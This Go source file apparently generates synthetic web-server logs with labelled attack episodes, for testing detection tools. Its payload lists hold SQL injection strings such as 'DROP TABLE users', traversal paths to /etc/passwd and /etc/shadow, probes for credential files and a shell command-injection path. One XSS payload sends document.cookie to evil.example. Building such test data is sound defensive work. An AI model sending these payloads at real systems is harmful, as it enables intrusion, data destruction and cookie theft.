package generate

import (
	"strconv"
	"time"
)

// Attack is an attack of the truth: what one source did, and when.
type Attack struct {
	Source    string    `json:"source"` // client address
	UserAgent string    `json:"user_agent"`
	Kind      string    `json:"kind"`
	Start     time.Time `json:"start"`
	End       time.Time `json:"end"`
	Lines     int64     `json:"lines"`
	Bytes     int64     `json:"bytes"`     // sent to the source
	Succeeded bool      `json:"succeeded"` // of brute force: it ended in a login; of a scanner: it was given a secret file
}

// attackKind is a kind of attack: its size, its pace and its requests.
type attackKind struct {
	name     string
	low, top int // lines
	pace     int // mean seconds between two lines; 0 for several a second
	request  func(f *Farm, v *visit, q *request)
}

// attackKinds take turns, so that even a short log has each.
var attackKinds = []attackKind{
	{"scanner", 30, 120, 0, (*Farm).scan},
	{"brute_force", 40, 160, 1, (*Farm).guess},
	{"sql_injection", 30, 80, 2, (*Farm).inject},
	{"traversal", 20, 60, 1, (*Farm).traverse},
	{"exfiltration", 30, 80, 6, (*Farm).exfiltrate},
	{"sql_injection_double", 30, 80, 2, (*Farm).injectTwice},
	{"xss", 20, 60, 2, (*Farm).script},
	{"scraper", 80, 240, 0, (*Farm).scrape},
	{"traversal_double", 20, 60, 1, (*Farm).traverseTwice},
}

// exposed is the file with secrets, of those that scanners ask for, that is served at times.
const exposed = "/.git/config"

var (
	scanned = []string{
		"/wp-login.php", "/.env", "/wp-admin/setup-config.php", "/phpmyadmin/index.php", "/.git/config", "/xmlrpc.php", "/admin/config.php",
		"/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "/cgi-bin/luci/;stok=/locale", "/boaform/admin/formLogin", "/actuator/env",
		"/.aws/credentials", "/server-status", "/backup.sql", "/config.json", "/owa/auth/logon.aspx", "/solr/admin/info/system", "/.DS_Store",
		"/HNAP1/", "/shell?cd+/tmp;rm+-rf+*", "/wp-content/plugins/wp-file-manager/readme.txt", "/manager/html", "/autodiscover/autodiscover.json", "/id_rsa",
	}
	traversals = []string{
		"/../../../../etc/passwd", "/static/..%2f..%2f..%2fetc%2fpasswd", "/%2e%2e/%2e%2e/%2e%2e/etc/shadow", "/img/....//....//etc/passwd",
		"/download?file=../../../../etc/hosts", "/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh", "/view?page=..%5c..%5cwindows%5cwin.ini",
	}
	injections = []string{
		"1' OR '1'='1", "1 UNION SELECT NULL,version(),NULL-- -", "1; DROP TABLE users--", "1' AND SLEEP(5)-- -",
		"-1 UNION ALL SELECT table_name,NULL FROM information_schema.tables#", "1' AND (SELECT 1 FROM (SELECT COUNT(*),CONCAT(0x7176,FLOOR(RAND(0)*2)) x FROM t GROUP BY x) a)-- ",
	}
	scripts = []string{"<script>alert(1)</script>", "\"><img src=x onerror=alert(document.cookie)>", "<svg/onload=fetch('//evil.example/'+document.cookie)>", "javascript:alert(1)"}
)

// startAttack lets a new source attack.
func (f *Farm) startAttack() {
	episode := len(f.truth.attacks)
	kind := &attackKinds[episode%len(attackKinds)]
	// Attacks on a small log are shorter, so that it has several kinds.
	percent := min(100, max(15, int(f.cfg.lines()/1000)))
	lines := max(12, f.rng.between(kind.low, kind.top)*percent/100)
	x := uint32(uint64(episode)*0x9e3779b1+f.people.salt>>8) & (1<<24 - 1)
	a := actor{addr: "45." + octets[x>>16] + "." + octets[x>>8&255] + "." + octets[x&255]}
	if a.bot = f.rng.oneIn(3); a.bot {
		a.agent = tools[f.rng.n(len(tools))]
	} else {
		a.agent = disguises[f.rng.n(len(disguises))]
	}
	who := f.cfg.Visitors + len(f.others)
	f.others = append(f.others, a)
	f.truth.attacks = append(f.truth.attacks, Attack{Source: a.addr, UserAgent: a.agent, Kind: kind.name})
	f.spent.attacks += int64(lines)
	f.enter(visit{kind: attacker, who: int32(who), left: int32(lines), episode: int32(episode)}, lines)
}

// stepAttack sends the next request, or the next few, of an attack.
func (f *Farm) stepAttack(v *visit) (wait int) {
	kind := &attackKinds[int(v.episode)%len(attackKinds)]
	burst := 1
	if kind.pace == 0 {
		burst = f.rng.between(1, 4)
	}
	bot := f.other(v.who).bot
	for ; burst > 0 && v.left > 0 && f.open(); burst-- {
		v.left--
		q := request{who: v.who, server: f.elsewhere(v), method: "GET", target: f.target[:0], proto: "HTTP/1.1", status: 404, size: 4123, page: true, bot: bot}
		kind.request(f, v, &q)
		f.target = q.target
		f.send(&q)
	}
	if v.left == 0 {
		return over
	}
	return f.rng.wait(kind.pace, 120)
}

func (f *Farm) scan(v *visit, q *request) {
	q.target = append(q.target, scanned[f.rng.n(len(scanned))]...)
	if f.rng.oneIn(4) {
		q.status, q.size = 403, 199
	}
	// Every second scanner comes to a server that was set up carelessly.
	if v.episode%2 == 1 && string(q.target) == exposed {
		q.status, q.size = 200, 92
		f.truth.attacks[v.episode].Succeeded = true
	}
}

func (f *Farm) guess(v *visit, q *request) {
	q.method, q.status, q.size = "POST", 401, 1932
	q.target = append(q.target, "/login"...)
	a := &f.truth.attacks[v.episode]
	switch {
	case a.Succeeded:
		q.method, q.status, q.size = "GET", 200, 20_118
		q.target = append(q.target[:0], "/account?tab=orders"...)
	case v.left < 4 && v.episode%2 == 1:
		q.status, q.size = 302, 0
		a.Succeeded = true
	}
}

func (f *Farm) traverse(_ *visit, q *request) {
	q.target = append(q.target, traversals[f.rng.n(len(traversals))]...)
	if f.rng.oneIn(2) {
		q.status, q.size = 400, 226
	}
}

func (f *Farm) traverseTwice(_ *visit, q *request) {
	q.target = append(q.target, "/static/"...)
	for range f.rng.between(3, 6) {
		q.target = append(q.target, "%252e%252e%252f"...)
	}
	q.target = append(q.target, "etc%252fpasswd"...)
}

func (f *Farm) inject(_ *visit, q *request)      { f.injectEncoded(q, 1) }
func (f *Farm) injectTwice(_ *visit, q *request) { f.injectEncoded(q, 2) }

func (f *Farm) injectEncoded(q *request, times int) {
	q.target = append(q.target, "/product/"...)
	q.target = strconv.AppendInt(q.target, int64(f.rng.n(products)), 10)
	q.target = append(q.target, "?id="...)
	q.target = appendEncoded(q.target, injections[f.rng.n(len(injections))], times)
	switch f.rng.n(4) {
	case 0:
		q.status, q.size = 500, 611
	case 1:
		q.status, q.size = 403, 199
	default:
		q.status, q.size = 200, 18_000
	}
}

func (f *Farm) script(_ *visit, q *request) {
	q.target = append(q.target, "/search?q="...)
	q.target = appendEncoded(q.target, scripts[f.rng.n(len(scripts))], 1)
	q.status, q.size = 200, 9120
}

func (f *Farm) exfiltrate(v *visit, q *request) {
	q.target = append(q.target, "/export/customers?page="...)
	q.target = strconv.AppendInt(q.target, int64(v.left), 10)
	q.status, q.size = 200, int64(f.rng.between(5<<20, 25<<20))
}

func (f *Farm) scrape(v *visit, q *request) {
	v.page.id++
	q.target = append(q.target, "/product/"...)
	q.target = strconv.AppendUint(q.target, (mix(uint64(v.episode))+uint64(v.page.id))%products, 10)
	q.status, q.size = 200, page{kind: product, id: v.page.id}.size()
}
